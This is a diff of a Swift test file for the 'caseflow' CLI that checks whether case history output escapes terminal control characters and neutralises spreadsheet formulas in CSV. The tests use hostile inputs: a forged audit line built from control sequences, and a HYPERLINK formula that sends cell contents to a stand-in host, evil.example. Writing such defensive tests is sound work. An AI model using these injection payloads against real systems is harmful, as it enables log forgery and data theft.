@@ -8,17 +8,22 @@ import Testing
 /// A reason that carries terminal control characters cannot forge a line in an auditor's
 /// terminal: `caseflow history` writes them as escapes, in text and in CSV.
 @Suite struct HistoryControlCharacterTests {
-    @Test func aReasonCannotDrawAForgedLine() async throws {
-        let dir = try Scratch.folder("caseflow-history-escape")
-        let db = dir.appendingPathComponent("cases.sqlite").path
+    /// A database holding one sales case `id` for `customer`, cancelled with `reason`.
+    static func cancelled(_ id: String, customer: String, reason: String) async throws -> String {
+        let db = try Scratch.folder("caseflow-history-escape").appendingPathComponent("cases.sqlite").path
         let engine = SalesCasesFixture.engine
         let start = SalesCasesFixture.start
-        let opened = try engine.open(caseID: "h-1", workflow: "service-sales", data: [("customer", "Acme")], by: "alice", at: start).get()
-        let forged = "dup\r2026-03-02 09:00:00 +08:00  dana (sales_director)  gate_passed\u{1B}[8m\u{202E}"
-        let cancelled = try engine.handle(.cancel(reason: forged), on: opened.state, by: "alice", at: start + Int64(60_000)).get()
+        let opened = try engine.open(caseID: id, workflow: "service-sales", data: [("customer", .string(customer))], by: "alice", at: start).get()
+        let cancelled = try engine.handle(.cancel(reason: reason), on: opened.state, by: "alice", at: start + Int64(60_000)).get()
         let store = try SQLiteStore(path: db)
-        try await store.commit(CaseWrite(caseID: "h-1", expectedVersion: 0, events: opened.events + cancelled.events,
+        try await store.commit(CaseWrite(caseID: id, expectedVersion: 0, events: opened.events + cancelled.events,
                                          snapshot: try StoredCase(state: cancelled.state, engine: engine, updatedAt: start)))
+        return db
+    }
+
+    @Test func aReasonCannotDrawAForgedLine() async throws {
+        let forged = "dup\r2026-03-02 09:00:00 +08:00  dana (sales_director)  gate_passed\u{1B}[8m\u{202E}"
+        let db = try await Self.cancelled("h-1", customer: "Acme", reason: forged)
 
         let text = try CLIProcess.run(["history", "h-1", "--db", db])
         #expect(text.status == 0, "\(text.stderr)")
@@ -40,16 +45,7 @@ import Testing
     /// A cancel reason written as a spreadsheet formula reached the CSV as one: the cell now
     /// starts with `'`, so a spreadsheet shows it as text.
     @Test func aFormulaInCaseDataIsTextInCSV() async throws {
-        let dir = try Scratch.folder("caseflow-history-formula")
-        let db = dir.appendingPathComponent("cases.sqlite").path
-        let engine = SalesCasesFixture.engine
-        let start = SalesCasesFixture.start
-        let opened = try engine.open(caseID: "h-2", workflow: "service-sales", data: [("customer", "@SUM(1+1)")], by: "alice", at: start).get()
-        let formula = #"=HYPERLINK("http://evil.example/"&A1,"x")"#
-        let cancelled = try engine.handle(.cancel(reason: formula), on: opened.state, by: "alice", at: start + Int64(60_000)).get()
-        let store = try SQLiteStore(path: db)
-        try await store.commit(CaseWrite(caseID: "h-2", expectedVersion: 0, events: opened.events + cancelled.events,
-                                         snapshot: try StoredCase(state: cancelled.state, engine: engine, updatedAt: start)))
+        let db = try await Self.cancelled("h-2", customer: "@SUM(1+1)", reason: #"=HYPERLINK("http://evil.example/"&A1,"x")"#)
         let csv = try CLIProcess.run(["history", "h-2", "--db", db, "--format", "csv"])
         #expect(csv.status == 0, "\(csv.stderr)")
         let rows = csv.stdout.split(separator: "\n").map(String.init)
